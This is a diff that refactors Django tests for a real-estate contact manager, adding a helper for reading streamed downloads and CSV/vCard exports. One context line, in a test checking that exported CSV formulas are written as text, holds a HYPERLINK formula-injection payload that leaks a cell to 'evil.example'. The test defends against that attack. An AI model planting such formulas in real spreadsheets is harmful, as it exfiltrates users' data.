@@ -11,6 +11,7 @@ from django.test import Client
 from maklerwerk.contacts.models import Contact, ContactFile, Relationship
 from maklerwerk.core.history import history_for
 from maklerwerk.core.models import Activity
+from tests.conftest import streamed
 from tests.contacts.conftest import fixture_bytes, make_contact
 
 pytestmark = pytest.mark.django_db
@@ -198,10 +199,7 @@ def test_files_upload_download_and_delete(agent_client: Client, contact: Any, se
     assert "Exposé.pdf" in page and "2 Datei(en) hochgeladen." in page
     row = ContactFile.objects.get(name="Exposé.pdf")
     download = agent_client.get(f"/contacts/{contact.pk}/files/{row.pk}/")
-    assert (
-        download["Content-Disposition"].startswith("attachment;")
-        and b"".join(download.streaming_content) == b"%PDF demo"
-    )
+    assert download["Content-Disposition"].startswith("attachment;") and streamed(download) == b"%PDF demo"
     agent_client.post(f"/contacts/{contact.pk}/files/{row.pk}/delete/")
     assert list(ContactFile.objects.values_list("name", flat=True)) == ["notiz.txt"]
 
@@ -285,21 +283,15 @@ def test_bulk_tag_and_export(agent_client: Client, office: Any, agent: Any) -> N
     agent_client.post("/contacts/bulk/tag/", {"ids": [a.pk, b.pk], "tag": "Newsletter"})
     assert agent_client.get("/contacts/", {"tag": "Newsletter"}).content.decode().count('name="ids"') == 2
     assert history_for(a).filter(changes__icontains="Newsletter").exists()
-    csv_text = b"".join(
-        agent_client.post("/contacts/export/", {"ids": [a.pk], "format": "csv"}).streaming_content
-    ).decode()
+    csv_text = streamed(agent_client.post("/contacts/export/", {"ids": [a.pk], "format": "csv"})).decode()
     assert csv_text.startswith("\ufeffID;Anrede") and "Arndt" in csv_text and "Brandt" not in csv_text
-    vcf = b"".join(
-        agent_client.get("/contacts/export/", {"q": "köln", "format": "vcf"}).streaming_content
-    ).decode()
+    vcf = streamed(agent_client.get("/contacts/export/", {"q": "köln", "format": "vcf"})).decode()
     assert vcf.count("BEGIN:VCARD") == 1 and "N:Brandt;" in vcf
 
 
 def test_export_of_a_selection_is_limited_to_the_own_office(agent_client: Client, other_office: Any) -> None:
     foreign = make_contact(other_office, last_name="Fremd")
-    vcf = b"".join(
-        agent_client.post("/contacts/export/", {"ids": [foreign.pk], "format": "vcf"}).streaming_content
-    )
+    vcf = streamed(agent_client.post("/contacts/export/", {"ids": [foreign.pk], "format": "vcf"}))
     assert b"Fremd" not in vcf
 
 
@@ -324,9 +316,7 @@ def test_the_csv_export_writes_formulas_as_text(agent_client: Client, office: An
         city="+49 Köln",
         street="Hauptstraße",
     )
-    body = b"".join(
-        agent_client.post("/contacts/export/", {"ids": [planted.pk], "format": "csv"}).streaming_content
-    ).decode()
+    body = streamed(agent_client.post("/contacts/export/", {"ids": [planted.pk], "format": "csv"})).decode()
     header, row = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
     cells = dict(zip(header, row, strict=True))
     assert cells["Vorname"] == '\'=HYPERLINK("https://evil.example/?"&A1;"Details")'
